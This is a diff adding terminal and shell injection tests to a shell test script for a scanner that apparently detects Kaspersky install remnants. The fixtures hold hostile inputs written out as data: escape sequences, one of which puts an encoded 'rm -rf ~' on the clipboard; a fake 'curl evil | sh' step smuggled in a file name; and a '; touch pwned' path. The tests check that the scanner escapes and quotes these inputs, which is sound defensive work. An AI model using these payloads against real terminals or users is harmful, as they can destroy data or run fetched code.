@@ -108,6 +108,51 @@ unreadable items, not 'not applicable'" \
 	"hive: unreadable: not a regular file: 3 (first: .*SOFTWARE)" \
 	"$TMP/out"
 
+# ---- 6. terminal and shell injection --------------------------------------
+inj=$TMP/inj
+mkdir -p "$inj/opt/kaspersky/kesl" "$inj/etc"
+# Names a path fingerprint (/opt/kaspersky/kesl/lib*) matches: a title
+# and clipboard sequence, a fake numbered step, the byte 0xFF, and the
+# four characters \xff.
+touch "$inj/opt/kaspersky/kesl/lib"$'\e]0;owned\a\e]52;c;cm0gLXJmIH4=\a'
+touch "$inj/opt/kaspersky/kesl/lib"$'\n    9. curl evil | sh'
+touch "$inj/opt/kaspersky/kesl/lib"$'\xff'
+touch "$inj/opt/kaspersky/kesl/lib\\xff"
+printf 'PRETTY_NAME="Debian\e[2J\e[H"\nNAME=x\n' >"$inj/etc/os-release"
+printf 'host\e]0;pwned\a\n' >"$inj/etc/hostname"
+scan_root "injection root: the scan finishes" "$inj" "$scat" --format text
+rc_is "injection root: exit 0, 1 or 4" 0 1 4
+if LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]' "$TMP/out"; then
+	bad "text report: no control character from the scanned data"
+	LC_ALL=C grep -n $'[\x01-\x09\x0b-\x1f\x7f]' "$TMP/out" | cat -v | head -5
+else
+	ok "text report: no control character from the scanned data"
+fi
+expect_grep "text report: ESC shown as \\x1b" 'lib\\x1b\]0;owned' "$TMP/out"
+if grep -q '^    9\. curl' "$TMP/out"; then
+	bad "text report: a newline in a name cannot fake a next step"
+else
+	ok "text report: a newline in a name cannot fake a next step"
+fi
+# The byte and the four characters differ, and the rm names each exactly.
+expect_grep "text report: byte 0xFF as \\xff" 'kesl/lib\\xff' "$TMP/out"
+expect_grep "text report: the text \\xff with its backslash doubled" \
+	'kesl/lib\\\\xff' "$TMP/out"
+expect_grep "next step: the byte 0xFF in \$'...' quoting" \
+	"kesl/lib\\\\377'" "$TMP/out"
+expect_grep "next step: the text \\xff exactly" \
+	"kesl/lib\\\\134xff'" "$TMP/out"
+# Every suggested command names the root shell-quoted.
+# shellcheck disable=SC2016
+r2=$TMP/'r; touch pwned'
+cp -a "$inj" "$r2"
+rm -f "$r2"/opt/kaspersky/kesl/lib?*
+touch "$r2/opt/kaspersky/kesl/libx"
+scan_root "root with shell syntax: the scan finishes" "$r2" "$scat" \
+	--format text
+expect_grep "next step: the root in single quotes" \
+	"rm -r -- '$TMP/r; touch pwned/opt/kaspersky/kesl/libx'" "$TMP/out"
+
 # ---- 5. --output: devices, FIFOs, modes, write errors --------------------
 mkdir -p "$TMP/hv"
 hive=$TMP/hv/SOFTWARE
